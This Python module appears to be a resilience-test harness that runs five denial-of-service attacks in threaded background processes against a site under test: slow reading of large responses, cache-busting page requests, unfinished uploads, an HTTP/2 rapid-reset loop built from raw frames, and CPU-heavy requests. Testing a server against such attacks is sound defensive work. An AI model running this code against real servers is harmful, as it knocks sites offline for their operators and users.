"""Attacks on one site, each by threads of a process of its own until it is ended."""

import itertools
import os
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from multiprocessing import get_context
from typing import Final

from tests.attacks.raw import ADDRESS, make_request

# Called again and again, with the port, the HTTPS port, and the host name of the attacked site.
Attack = Callable[[int, int, str], None]
_NUMBERS: Final = itertools.count()


def read_slowly(port: int, tls_port: int, host: str) -> None:
    """Ask for 60 MB, and take next to nothing of it, as long as NGINX allows."""
    with socket.socket() as peer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        peer.connect((ADDRESS, port))
        peer.sendall(make_request(host, "/long?megabytes=60"))
        while peer.recv(1):
            time.sleep(0.2)


def ask_for_pages(port: int, tls_port: int, host: str) -> None:
    """Each under another address, of a route that is kept."""
    with socket.create_connection((ADDRESS, port)) as peer:
        peer.sendall(make_request(host, f"/page/{os.getpid()}-{next(_NUMBERS)}?length=30000"))
        while peer.recv(65536):
            pass


def upload(port: int, tls_port: int, host: str) -> None:
    """Five megabytes, but for the last byte, and wait."""
    length = 5 << 20
    with socket.create_connection((ADDRESS, port)) as peer:
        head = make_request(host, "/upload", method="POST", fields=[("Content-Length", str(length))])
        peer.sendall(head + bytes(length - 1))
        peer.recv(1)


def give_up(port: int, tls_port: int, host: str) -> None:
    """Ask for what takes a second, and reset the stream (HTTP/2), 100 times on one connection."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    with (
        socket.create_connection((ADDRESS, tls_port)) as plain,
        context.wrap_socket(plain, server_hostname=host) as peer,
    ):
        peer.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
        # GET, https, /slow, the host; nothing of it compressed.
        name = host.encode()
        head = b"\x82\x87\x04\x05/slow\x01" + bytes([len(name)]) + name
        for stream in range(1, 200, 2):
            peer.sendall(_frame(1, 5, stream, head))
            time.sleep(0.005)
            peer.sendall(_frame(3, 0, stream, struct.pack(">I", 8)))


def spend(port: int, tls_port: int, host: str) -> None:
    """Ask for what takes a processor 0.2 s."""
    with socket.create_connection((ADDRESS, port)) as peer:
        peer.sendall(make_request(host, "/dear"))
        while peer.recv(65536):
            pass


# What it is, how many at once.
ATTACKS: Final[dict[str, tuple[Attack, int]]] = {
    "78 slow readers of 60 MB": (read_slowly, 78),
    "distinct pages of a kept route, 16 at once": (ask_for_pages, 16),
    "uploads of 5 MB without an end, 40 at once": (upload, 40),
    "rapid reset of an answer of 1 s, 4 connections": (give_up, 4),
    "requests of 0.2 s of a processor, 16 at once": (spend, 16),
}


@contextmanager
def under(attack: Attack, many: int, port: int, tls_port: int, host: str) -> Iterator[None]:
    """The site is under attack meanwhile."""
    process = get_context("spawn").Process(target=_go_on, args=(attack, many, port, tls_port, host), daemon=True)
    process.start()
    try:
        yield
    finally:
        process.terminate()
        process.join(10)


def _go_on(attack: Attack, many: int, port: int, tls_port: int, host: str) -> None:
    def repeat() -> None:
        while True:
            with suppress(OSError):
                attack(port, tls_port, host)
            time.sleep(0.001)

    os.nice(19)  # an attacker has processors of its own: here it takes what nobody else wants
    threads = [threading.Thread(target=repeat, daemon=True) for _ in range(many)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
